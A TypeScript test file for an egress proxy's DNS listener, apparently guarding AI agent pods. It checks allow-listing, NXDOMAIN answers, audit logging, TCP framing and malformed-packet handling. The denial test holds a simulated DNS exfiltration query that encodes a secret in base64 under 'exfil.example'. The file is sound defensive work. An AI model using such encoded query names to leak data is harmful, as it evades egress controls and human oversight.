/**
 * The egress proxy's DNS listener, in the real proxy process: clients ask it with
 * node:dns (c-ares, as a stub resolver does) and with raw TCP; behind it a fake upstream
 * DNS server (the pod's real resolver) answers and records every name it is asked. Shows
 * that allowed names and declared in-cluster Services resolve, that everything else gets
 * NXDOMAIN and one audit line, and that the upstream never sees a name that is not
 * allowed (a query name is data: forwarding it would be a channel out).
 *
 * The iptables redirect of port 53 to this listener is tested in
 * test/runtime/egress-init.test.ts and, end to end, test/runtime/egress-transparent.test.ts.
 */
import dgram from 'node:dgram';
import { Resolver } from 'node:dns/promises';
import net from 'node:net';
import * as dnsPacket from 'dns-packet';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { metric, startProxy, type ProxyFixture } from './proxy-harness.ts';

const SEARCH = ['agents.svc.cluster.local', 'svc.cluster.local', 'cluster.local'];

/** A fake recursive resolver on 127.0.0.1 (UDP): fixed A/AAAA records, NXDOMAIN else; `asked` lists every query name. */
async function fakeUpstream(records: Record<string, { A?: string[]; AAAA?: string[] }>): Promise<{ port: number; asked: string[]; close(): Promise<void> }> {
  const asked: string[] = [];
  const socket = dgram.createSocket('udp4');
  socket.on('message', (msg, rinfo) => {
    const q = dnsPacket.decode(msg);
    const question = q.questions?.[0];
    if (!question) return;
    asked.push(question.name.toLowerCase());
    const rec = records[question.name.toLowerCase()];
    const type: 'A' | 'AAAA' = question.type === 'AAAA' ? 'AAAA' : 'A';
    const answers: dnsPacket.Answer[] = (rec?.[type] ?? []).map((data) => ({ type, class: 'IN', name: question.name, ttl: 42, data }));
    const flags = (rec ? 0 : 3) | dnsPacket.RECURSION_AVAILABLE;
    socket.send(dnsPacket.encode({ type: 'response', id: q.id ?? 0, flags, questions: [question], answers }), rinfo.port, rinfo.address);
  });
  await new Promise<void>((r) => socket.bind(0, '127.0.0.1', r));
  return { port: socket.address().port, asked, close: () => new Promise((r) => socket.close(() => r())) };
}

/** Sends DNS messages over one TCP connection, each with its 2-byte length (written in `chunks` pieces), and reads `count` answers. */
async function overTcp(port: number, messages: Buffer[], count = messages.length, split = false): Promise<dnsPacket.DecodedPacket[]> {
  const socket = net.connect({ host: '127.0.0.1', port });
  await new Promise<void>((r, j) => socket.once('connect', r).once('error', j));
  const framed = Buffer.concat(messages.map((m) => Buffer.concat([Buffer.from([m.length >> 8, m.length & 0xff]), m])));
  if (split) {
    // One byte at a time: the listener must reassemble frames across reads.
    for (const b of framed) {
      socket.write(Buffer.from([b]));
      await new Promise((r) => setImmediate(r));
    }
  } else socket.write(framed);
  const out: dnsPacket.DecodedPacket[] = [];
  let buf = Buffer.alloc(0);
  return new Promise((resolve, reject) => {
    const timer = setTimeout(() => (socket.destroy(), reject(new Error(`only ${out.length} of ${count} TCP answers`))), 5000);
    socket.on('data', (d: Buffer) => {
      buf = Buffer.concat([buf, d]);
      while (buf.length >= 2 && buf.length >= 2 + buf.readUInt16BE(0)) {
        out.push(dnsPacket.decode(buf.subarray(2, 2 + buf.readUInt16BE(0))));
        buf = buf.subarray(2 + buf.readUInt16BE(0));
      }
      if (out.length >= count) {
        clearTimeout(timer);
        socket.destroy();
        resolve(out);
      }
    });
    socket.on('close', () => (clearTimeout(timer), resolve(out)));
  });
}

const query = (name: string, type: dnsPacket.RecordType = 'A', id = 7) => dnsPacket.encode({ type: 'query', id, flags: dnsPacket.RECURSION_DESIRED, questions: [{ type, name, class: 'IN' }] });

describe('egress proxy DNS listener (real process)', () => {
  let upstream: Awaited<ReturnType<typeof fakeUpstream>>;
  let fx: ProxyFixture;
  let resolver: Resolver;

  beforeAll(async () => {
    upstream = await fakeUpstream({
      'api.github.com': { A: ['140.82.121.6'], AAAA: ['2606:50c0:8000::64'] },
      'nats.infra.svc.cluster.local': { A: ['10.96.7.7'] },
      'kubernetes.default.svc.cluster.local': { A: ['10.96.0.1'] },
    });
    fx = await startProxy({
      allow: ['api.github.com'],
      allowCidrs: [],
      credentials: [],
      hosts: {},
      upstreamCa: [],
      dns: { upstream: `127.0.0.1:${upstream.port}`, search: SEARCH, inClusterHosts: ['nats.infra.svc', 'kubernetes.default.svc'] },
    });
    resolver = new Resolver({ timeout: 3000, tries: 1 });
    resolver.setServers([`127.0.0.1:${fx.dnsPort}`]);
  });
  afterAll(async () => {
    await fx?.stop();
    await upstream?.close();
  });

  it('logs the DNS port and the upstream it asks', () => {
    const listening = fx.logs().find((l) => l.msg === 'egress proxy listening');
    expect(listening).toMatchObject({ dnsPort: fx.dnsPort, dnsUpstream: [`127.0.0.1:${upstream.port}`] });
  });

  it('resolves an allowed name (A and AAAA) through the upstream', async () => {
    expect(await resolver.resolve4('api.github.com')).toEqual(['140.82.121.6']);
    expect(await resolver.resolve6('api.github.com')).toEqual(['2606:50c0:8000::64']);
    expect(upstream.asked).toContain('api.github.com');
  });

  it('resolves the declared in-cluster Services in their cluster.local forms', async () => {
    expect(await resolver.resolve4('nats.infra.svc.cluster.local')).toEqual(['10.96.7.7']);
    expect(await resolver.resolve4('kubernetes.default.svc.cluster.local')).toEqual(['10.96.0.1']);
  });

  it('answers a non-allowed name NXDOMAIN with one audit line, and never asks the upstream', async () => {
    const secret = 'c2VjcmV0LXZhbHVl.exfil.example';
    // What a pod's stub resolver sends for it (ndots:5): the search expansions, then the name.
    for (const name of [...SEARCH.map((s) => `${secret}.${s}`), secret]) {
      await expect(resolver.resolve4(name), name).rejects.toMatchObject({ code: 'ENOTFOUND' });
    }
    await expect(resolver.resolveTxt(secret)).rejects.toMatchObject({ code: 'ENOTFOUND' });
    expect(upstream.asked.filter((n) => n.includes('exfil'))).toEqual([]);
    const lines = fx.audits().filter((a) => a.mode === 'dns');
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatchObject({ audit: true, mode: 'dns', host: secret.toLowerCase(), decision: 'deny', reason: 'not_allowed', qtype: 'A', msg: 'egress denied' });
    expect(await metric(fx, 'agentsmith_proxy_dns_queries_total{decision="deny",reason="not_allowed"}')).toBe(5);
  });

  it('answers the search expansions of an allowed name NXDOMAIN without an upstream query or an audit line', async () => {
    const before = upstream.asked.length;
    const audits = fx.audits().length;
    for (const s of SEARCH) await expect(resolver.resolve4(`api.github.com.${s}`)).rejects.toMatchObject({ code: 'ENOTFOUND' });
    expect(upstream.asked.length).toBe(before);
    expect(fx.audits().length).toBe(audits);
  });

  it('speaks DNS over TCP: pipelined queries answered in order, frames reassembled across reads', async () => {
    const answers = await overTcp(fx.dnsPort, [query('api.github.com', 'A', 1), query('evil.example', 'A', 2), query('nats.infra.svc.cluster.local', 'A', 3)]);
    expect(answers.map((a) => [a.id, (a as { rcode?: string }).rcode])).toEqual([
      [1, 'NOERROR'],
      [2, 'NXDOMAIN'],
      [3, 'NOERROR'],
    ]);
    expect(answers[0]?.answers?.[0]).toMatchObject({ type: 'A', data: '140.82.121.6' });
    const split = await overTcp(fx.dnsPort, [query('api.github.com', 'AAAA', 9)], 1, true);
    expect(split[0]?.answers?.[0]).toMatchObject({ type: 'AAAA', data: '2606:50c0:8000::64' });
  });

  it('survives malformed and oversized messages (FORMERR or nothing) and keeps answering', async () => {
    const sock = dgram.createSocket('udp4');
    const replies: Buffer[] = [];
    sock.on('message', (m) => replies.push(m));
    await new Promise<void>((r) => sock.bind(0, '127.0.0.1', r));
    const send = (b: Buffer) => new Promise<void>((r) => sock.send(b, fx.dnsPort, '127.0.0.1', () => r()));
    await send(Buffer.from([1, 2, 3]));
    await send(Buffer.concat([query('api.github.com', 'A', 77).subarray(0, 14), Buffer.from([0xff, 0xff])]));
    await send(Buffer.alloc(4000, 0x41));
    const two = dnsPacket.encode({ type: 'query', id: 78, questions: [{ type: 'A', name: 'api.github.com' }, { type: 'A', name: 'evil.example' }] });
    await send(two);
    await new Promise((r) => setTimeout(r, 300));
    sock.close();
    const rcodes = replies.map((b) => [b.readUInt16BE(0), b.readUInt16BE(2) & 0xf]);
    expect(rcodes).toEqual(expect.arrayContaining([[77, 1], [78, 1]]));
    expect(upstream.asked).not.toContain('evil.example');
    expect(fx.proc.exitCode).toBeNull();
    expect(await resolver.resolve4('api.github.com')).toEqual(['140.82.121.6']);
    expect(await metric(fx, 'agentsmith_proxy_dns_queries_total{decision="error",reason="questions"}')).toBe(1);
  });
});
